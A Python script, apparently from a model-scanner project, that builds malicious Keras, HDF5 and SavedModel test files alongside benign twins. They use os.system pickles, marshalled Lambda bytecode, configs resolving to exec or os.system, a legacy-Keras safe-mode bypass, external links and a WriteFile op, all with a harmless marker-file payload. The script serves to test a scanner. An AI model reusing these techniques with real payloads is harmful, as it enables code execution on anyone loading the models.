"""Malicious model files of every kind `inspect scan` reports, each beside its benign twin.

Built from the real fixtures (so everything but the payload is what Keras wrote) into a folder
of your choice; shared by tests/test_security.py and benchmarks/scan_compare.py. Every payload is
harmless: it would only create the file `MARKER` in the output folder, so a test can prove it
never ran. Building runs nothing: bytecode is compiled, not called; pickles are dumped, not loaded.

    .venv/bin/python benchmarks/security_samples.py OUT_DIR
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import shutil
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "fixtures"
MARKER = "MARKER"


@dataclass(frozen=True)
class Sample:
    """One file: the rule that must report it (None for a benign twin) and what it holds."""

    name: str
    code: str | None
    what: str


SAMPLES = (
    Sample("npz_pickle_poc.keras", "S103", "model.weights.npz twice, the second a bare os.system pickle (the PoC's layout)"),
    Sample("npz_object_array.keras", "S103", "an object array in model.weights.npz whose pickle calls os.system"),
    Sample("compile_lambda.keras", "S105", "compile_config.loss is a __lambda__ (marshalled bytecode)"),
    Sample("compile_system.keras", "S105", "compile_config.loss resolves to os.system by module/name"),
    Sample("config_import.keras", "S104", "a layer activation that resolves to builtins.exec"),
    Sample("duplicate_config.keras", "S107", "two config.json members with different content"),
    Sample("lambda_k2.h5", "S101", "a Keras 2 marshalled Lambda in .h5 (tf_keras runs it by default)"),
    Sample("legacy_keras_model.keras", "S104", "the model is TF's bundled legacy Keras (tensorflow.python.keras) "
           "Sequential with a Keras 2 Lambda (tf_keras runs it by default)"),
    Sample("legacy_keras_function.keras", "S104", "a Lambda's function is a tensorflow.python.keras Sequential "
           "with a Keras 2 Lambda (tf_keras runs it by default)"),
    Sample("legacy_keras_compile.keras", "S105", "compile_config.loss is a tensorflow.python.keras Sequential "
           "with a Keras 2 Lambda (tf_keras runs it by default)"),
    Sample("savedmodel_writefile", "S106", "a SavedModel whose function holds a WriteFile op"),
    Sample("external_link.h5", "S108", "an HDF5 external link in place of a layer's weights, to another file"),
    Sample("npz_keras_written.keras", None, "model.weights.npz as Keras writes it (object arrays of numbers, __root__.npy)"),
    Sample("compile_keras_loss.keras", None, "compile_config.loss is Keras' own mean_squared_error"),
    Sample("config_keras_activation.keras", None, "an activation serialized as keras.activations.relu"),
    Sample("dense_functional.keras", None, "a plain .keras file"),
    Sample("tf_keras_sequential.keras", None, "a .keras config in tf_keras' form (modules keras, keras.layers)"),
    Sample("dense_functional_k2.h5", None, "a plain tf_keras .h5 file"),
    Sample("savedmodel_k2", None, "a plain tf_keras SavedModel"),
)


class _System:
    """Pickles as `os.system(command)`; dumping it runs nothing."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        import os

        return (os.system, (self.command,))


def _touch_code(marker: Path):
    """The code object of `lambda *args: (touch marker, args[-1])[1]` (a Lambda layer's function
    or a loss): compiled, never called."""
    source = f"lambda *args: (__import__('pathlib').Path({str(marker)!r}).touch(), args[-1])[1]"
    return compile(source, "<payload>", "eval").co_consts[0]


def _rewrite_keras(src: Path, out: Path, members: list[tuple[str, bytes]]) -> None:
    """`src`'s members, then `members` (replacing those of the same name unless listed twice)."""
    names = {name for name, _ in members}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            if info.filename not in names:
                zout.writestr(info, zin.read(info))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about a duplicate name: that is the point
            for name, data in members:
                zout.writestr(name, data)


def _config(path: Path) -> dict:
    with zipfile.ZipFile(path) as z:
        return json.loads(z.read("config.json"))


def _keras_npz(arrays_by_layer: dict[str, dict[str, object]]) -> bytes:
    """An npz as Keras' NpzIOStore writes it: one 0-d object array (a dict of arrays) per layer."""
    import numpy as np

    contents = {}
    for path, variables in arrays_by_layer.items():
        cell = np.empty((), dtype=object)
        cell[()] = variables
        contents[path] = cell
    buffer = io.BytesIO()
    np.savez(buffer, **contents)
    return buffer.getvalue()


def _keras2_lambda(name: str, code: str) -> dict:
    """A Keras 2 Lambda layer config whose function is base64 marshalled bytecode."""
    return {"name": name, "trainable": True, "dtype": "float32", "function": [code, None, None],
            "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
            "output_shape_module": None, "arguments": {}}


def _legacy_sequential(code: str) -> dict:
    """A Sequential of TensorFlow's bundled legacy Keras: an input, then a Lambda running `code`
    when the model is built."""
    return {"module": "tensorflow.python.keras.engine.sequential", "class_name": "Sequential",
            "config": {"name": "legacy", "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "dtype": "float32",
                                                        "sparse": False, "ragged": False, "name": "x"}},
                {"class_name": "Lambda", "config": _keras2_lambda("run", code)}]}}


def _tf_keras_sequential(*layers: dict) -> dict:
    """A weightless Sequential as tf_keras 2.21 serializes it in a .keras file, then `layers`."""
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "layers": [
                {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                 "config": {"batch_input_shape": [None, 64], "dtype": "float32", "sparse": False,
                            "ragged": False, "name": "pixels"}},
                {"module": "keras.layers", "class_name": "Activation", "registered_name": None,
                 "config": {"name": "act", "trainable": True, "dtype": "float32", "activation": "relu"}},
                *layers]}}


def build(out: Path) -> list[Sample]:
    """Write every sample into `out` (created); returns SAMPLES."""
    import h5py
    import numpy as np

    out.mkdir(parents=True, exist_ok=True)
    marker = out / MARKER
    command = f"touch {marker}"
    base = FIXTURES / "dense_functional.keras"
    config = _config(base)
    rng = np.random.default_rng(0)
    weights = {"__root__": {}, **{f"layers/{name}": {"0": rng.normal(size=shape).astype("float32"),
                                                     "1": np.zeros(shape[1], "float32")}
                                  for name, shape in (("dense", (64, 32)), ("dense_1", (32, 32)),
                                                      ("dense_2", (32, 10)))}}  # Keras names them by slot
    benign_npz = _keras_npz(weights)
    no_h5 = json.dumps(config).encode()

    def keras_file(name: str, members: list[tuple[str, bytes]], drop_h5: bool = False) -> None:
        target = out / name
        if drop_h5:
            with zipfile.ZipFile(base) as zin, zipfile.ZipFile(target, "w") as zout:
                for info in zin.infolist():
                    if info.filename != "model.weights.h5":
                        zout.writestr(info, zin.read(info))
            tmp = target.with_suffix(".tmp")
            target.rename(tmp)
            _rewrite_keras(tmp, target, members)
            tmp.unlink()
        else:
            _rewrite_keras(base, target, members)

    # S103: pickles in model.weights.npz
    keras_file("npz_pickle_poc.keras", [("model.weights.npz", benign_npz),
                                        ("model.weights.npz", __import__("pickle").dumps(_System(command)))],
               drop_h5=True)
    evil = np.empty((), dtype=object)
    evil[()] = _System(command)
    buffer = io.BytesIO()
    np.savez(buffer, **{"__root__": np.empty((), dtype=object), "layers/dense": evil})
    keras_file("npz_object_array.keras", [("model.weights.npz", buffer.getvalue())], drop_h5=True)
    keras_file("npz_keras_written.keras", [("model.weights.npz", benign_npz)], drop_h5=True)

    # S105: the compile config
    code = base64.b64encode(marshal.dumps(_touch_code(marker))).decode()
    for name, loss in (
        ("compile_lambda.keras", {"class_name": "__lambda__", "config": {"value": [code, None, None]}}),
        ("compile_system.keras", {"module": "os", "class_name": "function", "config": "system",
                                  "registered_name": "system"}),
        ("compile_keras_loss.keras", {"module": "keras.losses", "class_name": "function",
                                      "config": "mean_squared_error", "registered_name": "mean_squared_error"}),
    ):
        changed = dict(config, compile_config={"optimizer": "adam", "loss": loss, "metrics": None,
                                               "loss_weights": None, "weighted_metrics": None,
                                               "run_eagerly": False, "steps_per_execution": 1,
                                               "jit_compile": False})
        keras_file(name, [("config.json", json.dumps(changed).encode())])

    # S104: a config-driven import
    for name, activation in (
        ("config_import.keras", {"module": "builtins", "class_name": "function", "config": "exec",
                                 "registered_name": "function"}),
        ("config_keras_activation.keras", {"module": "keras.activations", "class_name": "function",
                                           "config": "relu", "registered_name": "relu"}),
    ):
        changed = json.loads(json.dumps(config))
        changed["config"]["layers"][1]["config"]["activation"] = activation
        keras_file(name, [("config.json", json.dumps(changed).encode())])

    # S104/S105: TensorFlow's bundled legacy Keras (tensorflow.python.keras), which never checks safe
    # mode, named where tf_keras 2.21 imports the module a config names: the whole model, a Lambda's
    # function, the loss. Everything else in the zip is the fixture's; tf_keras loads these files.
    legacy = _legacy_sequential(code)
    for name, changed in (
        ("legacy_keras_model.keras", legacy),
        ("legacy_keras_function.keras", _tf_keras_sequential({
            "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "run", "trainable": True, "dtype": "float32", "function": legacy,
                       "function_type": "function", "module": "builtins", "output_shape": None,
                       "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}})),
        ("legacy_keras_compile.keras", dict(_tf_keras_sequential(), compile_config={
            "optimizer": "adam", "loss": legacy, "metrics": None, "loss_weights": None, "weighted_metrics": None,
            "run_eagerly": None, "steps_per_execution": None, "jit_compile": None})),
        ("tf_keras_sequential.keras", _tf_keras_sequential()),
    ):
        keras_file(name, [("config.json", json.dumps(changed).encode())])

    # S107: two config.json members, the second one different
    twin = json.loads(json.dumps(config))
    twin["config"]["layers"][2]["config"]["units"] = 32
    twin["config"]["layers"][1]["config"]["activation"] = "tanh"
    keras_file("duplicate_config.keras", [("config.json", no_h5), ("config.json", json.dumps(twin).encode())])
    shutil.copy(base, out / "dense_functional.keras")

    # S101: a Keras 2 Lambda in an .h5 written by tf_keras
    shutil.copy(FIXTURES / "dense_functional_k2.h5", out / "dense_functional_k2.h5")
    shutil.copy(FIXTURES / "dense_functional_k2.h5", out / "lambda_k2.h5")
    with h5py.File(out / "lambda_k2.h5", "r+") as f:
        model = json.loads(f.attrs["model_config"])
        layer = model["config"]["layers"][2]
        layer["class_name"] = "Lambda"
        layer["config"] = {"name": layer["config"]["name"], "trainable": True, "dtype": "float32",
                           "function": [code, None, None], "function_type": "lambda", "module": "__main__",
                           "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
                           "arguments": {}}
        f.attrs["model_config"] = json.dumps(model)
        group = f["model_weights"][layer["name"]]
        for key in list(group):
            del group[key]
        group.attrs["weight_names"] = np.array([], dtype="S1")

    # S108: a layer's weight group replaced by an external link to a file the author chose
    shutil.copy(FIXTURES / "dense_functional_k2.h5", out / "external_link.h5")
    with h5py.File(out / "external_link.h5", "r+") as f:
        del f["model_weights/hidden_1"]
        f["model_weights/hidden_1"] = h5py.ExternalLink(str(out / "secret.h5"), "/")

    # S106: a WriteFile op added to a function of a real SavedModel
    shutil.copytree(FIXTURES / "savedmodel_k2", out / "savedmodel_k2", dirs_exist_ok=True)
    shutil.copytree(FIXTURES / "savedmodel_k2", out / "savedmodel_writefile", dirs_exist_ok=True)
    pb = out / "savedmodel_writefile" / "saved_model.pb"
    pb.write_bytes(_with_write_file(pb.read_bytes(), str(marker)))
    return list(SAMPLES)


# -- protobuf editing: append a NodeDef to the first function of the graph's library --------------
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _rewrite(message: bytes, number: int, edit, first_only: bool = True) -> bytes:
    """`message` with the length-delimited field `number` (its first occurrence) passed through `edit`."""
    from inspector.loaders.protobuf import fields

    out, done = bytearray(), False
    for field, value in fields(message):
        if field == number and isinstance(value, bytes) and not (first_only and done):
            out += _field(field, edit(value))
            done = True
        elif isinstance(value, bytes) and len(value) not in (4, 8) or isinstance(value, bytes) and field in (1, 2, 3):
            out += _field(field, value)
        elif isinstance(value, int):
            out += _varint(field << 3) + _varint(value)
        else:
            out += _varint(field << 3 | (1 if len(value) == 8 else 5)) + value
    return bytes(out)


def _with_write_file(saved_model: bytes, marker: str) -> bytes:
    node = (_field(1, b"write_marker") + _field(2, b"WriteFile") + _field(3, b"filename")
            + _field(3, b"contents"))
    del marker  # the op's inputs would be the function's; the node is what a scanner must see

    def library(lib: bytes) -> bytes:
        return _rewrite(lib, 1, lambda function: function + _field(3, node))

    def graph(graph_def: bytes) -> bytes:
        return _rewrite(graph_def, 2, library)

    def meta(meta_graph: bytes) -> bytes:
        return _rewrite(meta_graph, 2, graph)

    return _rewrite(saved_model, 2, meta)


if __name__ == "__main__":
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else "security-samples")
    for sample in build(folder):
        print(f"{folder / sample.name}  {sample.code or 'benign'}  {sample.what}")
